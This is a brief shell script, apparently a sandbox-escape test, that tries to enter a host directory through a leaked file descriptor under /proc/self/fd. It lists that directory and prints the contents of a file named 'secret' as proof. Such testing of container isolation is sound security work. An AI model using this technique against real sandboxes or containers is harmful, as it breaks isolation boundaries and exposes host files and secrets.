# Attack: the runtime's caller leaked fd $MC_FD, a directory of the host.
# /proc/self/fd/N is a door to whatever the fd refers to, wherever that is.
echo "open fds: $(ls /proc/self/fd | tr '\n' ' ')"
if cd "/proc/self/fd/$MC_FD"; then
    echo "cwd is now the host directory behind fd $MC_FD: $(ls | tr '\n' ' ')"
    echo "PROOF $(cat secret)"
else
    echo "could not enter fd $MC_FD: nothing leaked in"
fi
